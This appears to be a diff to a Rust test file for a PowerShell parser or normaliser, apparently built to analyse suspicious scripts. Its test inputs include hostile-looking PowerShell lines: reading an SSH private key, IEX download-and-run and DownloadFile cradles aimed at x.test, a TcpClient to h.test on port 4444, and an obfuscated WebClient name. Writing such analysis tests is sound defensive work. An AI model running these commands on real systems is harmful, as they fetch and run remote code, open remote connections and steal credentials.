@@ -39,7 +39,7 @@ fn commands_and_arguments() {
         ("Get-Content $HOME\\.ssh\\id_rsa", "[get-content \"home\"\\.ssh\\id_rsa]"),
         (
             "IEX(New-Object Net.WebClient).DownloadString('http://x.test/a')",
-            "[iex \"$([new-object Net.WebClient]).DownloadString(\"http://x.test/a\")\"]",
+            "[iex \"Net.WebClient().DownloadString(\"http://x.test/a\")\"]",
         ),
         ("iex (iwr x.test).Content", "[iex \"$([iwr x.test]).Content\"]"),
         ("& 'a b.exe' x", "['a b.exe' x]"),
@@ -124,12 +124,20 @@ fn members_types_and_calls() {
         ("$a.b[0].c", "a.b[0].c"),
         (
             "(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\x.exe\")",
-            "$([new-object Net.WebClient]).DownloadFile(u, <env:TEMP, \"\\\\x.exe\">)",
+            "Net.WebClient().DownloadFile(u, <env:TEMP, \"\\\\x.exe\">)",
         ),
         ("$x = [int]'5'", "x := int(\"5\")"),
         ("[void](foo)", "$([foo])"),
         ("[Net.ServicePointManager]::SecurityProtocol = 3072", "Net.ServicePointManager.SecurityProtocol := 3072"),
         ("$x?.y", "x.y"),
+        ("New-Object Net.Sockets.TcpClient('h.test', 4444)", "Net.Sockets.TcpClient(\"h.test\", 4444)"),
+        (
+            "$c = New-Object -TypeName T.C -ArgumentList 'a',$b -Property @{x=1}",
+            "c := T.C(\"a\", b, property={\"x\": 1})",
+        ),
+        ("New-Object -ComObject WScript.Shell", "WScript.Shell()"),
+        ("[Net.WebClient]::new().DownloadString($u)", "Net.WebClient().DownloadString(u)"),
+        ("New-Object ('Net.'+'WebClient')", "Net.WebClient()"),
         ("$s.Substring($i * 2, 2 + $j)", "s.Substring((i Multiply 2), (2 Add j))"),
         ("a -k <key> x\\<dir>\\y", "[a -k <key> x\\<dir>\\y]"),
     ]);
